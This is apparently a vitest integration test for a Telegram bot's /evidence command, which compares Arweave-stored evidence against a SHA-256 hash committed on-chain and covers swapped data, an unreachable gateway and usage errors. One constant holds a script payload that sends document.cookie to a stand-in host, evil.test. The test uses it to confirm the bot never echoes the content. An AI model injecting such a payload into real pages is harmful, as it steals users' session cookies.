/**
 * /evidence on Telegram: the real grammY bot on the local Bot API server, the real chain
 * reader on the localnet with a campaign whose milestone is under review, and the real
 * Arweave store on arlocal behind a faulty proxy. The holder hears "verified" only when the
 * bytes match the SHA-256 the researcher submitted on-chain; other bytes served or a gateway
 * down are said so. The evidence (HTML with a script) is a plain link, previews off.
 */
import { createHash } from "node:crypto";
import type { Message } from "grammy/types";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { arweaveIdToBytes } from "../../../bot/core/evidence-ids.js";
import { arweaveEvidenceStore } from "../../../bot/evidence/arweave-store.js";
import { CampaignFixture } from "../chain/support/campaign.js";
import { startArlocal, type RunningArlocal } from "../support/arlocal.js";
import { startArweaveProxy, type ArweaveProxy } from "../support/arweave-proxy.js";
import { databaseKinds, type TestDatabase } from "../support/databases.js";
import { TelegramHarness, user } from "./harness.js";
import { startHolderLocalnet, USDC, type HolderLocalnet } from "./holder-localnet.js";

const LONG = 180_000;
const HOSTILE = '<script>fetch("https://evil.test/?c="+document.cookie)</script><h1>Assay results</h1>';

let db: TestDatabase;
let net: HolderLocalnet;
let arlocal: RunningArlocal;
let proxy: ArweaveProxy;
let t: TelegramHarness;

/** Uploads `bytes` to arlocal and has the researcher submit milestone 1 with `hash` on-chain. */
async function inReview(bytes: Uint8Array, hash = createHash("sha256").update(bytes).digest()) {
  const direct = arweaveEvidenceStore({ gateways: [arlocal.url], wallet: arlocal.wallet, rounds: 1, backoffMs: 10 });
  const { id } = await direct.upload(bytes, "text/html", { Type: "milestone-evidence" });
  await arlocal.mine();
  const campaign = await CampaignFixture.active(net.protocol, [3_000, 3_500, 3_500], [100n * USDC]);
  await campaign.submitMilestone(0, { id: [...(arweaveIdToBytes(id) ?? [])], hash: [...hash] });
  return { address: campaign.address.toBase58(), id, sha256: createHash("sha256").update(bytes).digest("hex") };
}

beforeAll(async () => {
  db = await databaseKinds.at(-1)!.open();
  net = await startHolderLocalnet();
  arlocal = await startArlocal();
  proxy = await startArweaveProxy(arlocal.url);
  const evidence = arweaveEvidenceStore({ gateways: [proxy.url], wallet: arlocal.wallet, rounds: 1, backoffMs: 10, timeoutMs: 5_000 });
  t = await TelegramHarness.start(db, { chain: net.reader, evidence, gatewayUrl: arlocal.url });
}, LONG);
afterAll(async () => {
  await t?.stop();
  await proxy?.stop();
  await arlocal?.stop();
  await net?.stop();
  await db?.dispose();
});
beforeEach(() => {
  proxy.mode = "pass";
});

/** `/evidence ...` in a holder's private chat: the final answer and how it was sent. */
async function ask(text: string) {
  const who = user("Holder");
  const sent: Message[] = await t.say(t.privateChat(who), who, text);
  const answer = sent.at(-1)?.text ?? "";
  const edit = t.server.callsOf("editMessageText").at(-1)?.payload as { text: string; link_preview_options?: { is_disabled?: boolean } } | undefined;
  return { answer, edit };
}

describe("Telegram /evidence on the localnet", () => {
  it(
    "GIVEN the milestone under review THEN verified: the configured gateway's plain link, the on-chain SHA-256, size and type, no preview, never the content",
    async () => {
      const bytes = new TextEncoder().encode(HOSTILE);
      const { address, id, sha256 } = await inReview(bytes);
      const { answer, edit } = await ask(`/evidence ${address}`);
      expect(answer).toContain("Verified: the evidence matches what the researcher committed on-chain");
      expect(answer).toContain("Milestone 1 “Deliverable 1” (submission 1)");
      expect(answer).toContain(`Evidence: ${arlocal.url}/${id}`);
      expect(answer).toContain(`SHA-256 committed on-chain: ${sha256}`);
      expect(answer).toContain(`Size ${bytes.length} bytes; declared type text/html (Dataset)`);
      expect(answer).not.toContain("<script>");
      expect(edit?.text).toContain(`<a href="${arlocal.url}/${id}">`);
      expect(edit?.link_preview_options?.is_disabled).toBe(true);

      // The same evidence through a gateway that serves other bytes: not verified, said so.
      proxy.mode = "swap-data";
      const swapped = await ask(`/evidence ${address} 1`);
      expect(swapped.answer).toContain("Does NOT match what the researcher committed on-chain");
      expect(swapped.answer).toContain("not what the researcher committed on-chain");
      expect(swapped.answer).not.toContain("Verified");

      // The gateway down: nothing verified, try again.
      proxy.mode = "down";
      const down = await ask(`/evidence ${address}`);
      expect(down.answer).toContain("Arweave could not be reached, so nothing was verified. Try again");
      expect(down.answer).not.toContain("Verified");

      // A milestone with no submission yet.
      proxy.mode = "pass";
      expect((await ask(`/evidence ${address} 2`)).answer).toContain("No evidence has been submitted for that milestone yet.");
    },
    LONG,
  );

  it(
    "GIVEN a submission whose on-chain SHA-256 is not the stored bytes' THEN it does NOT match, with the bytes' real hash",
    async () => {
      const bytes = new TextEncoder().encode("the real data");
      const { address, sha256 } = await inReview(bytes, createHash("sha256").update("what the researcher promised").digest());
      const { answer } = await ask(`/evidence ${address}`);
      expect(answer).toContain("Does NOT match what the researcher committed on-chain");
      expect(answer).toContain(`they hash to ${sha256}`);
      expect(answer).not.toContain("Verified");
    },
    LONG,
  );

  it("GIVEN no campaign address or a bad milestone number THEN the usage", async () => {
    expect((await ask("/evidence")).answer).toContain("Use /evidence <campaign address> [milestone number]");
    expect((await ask("/evidence abc 0")).answer).toContain("Use /evidence <campaign address> [milestone number]");
  });
});
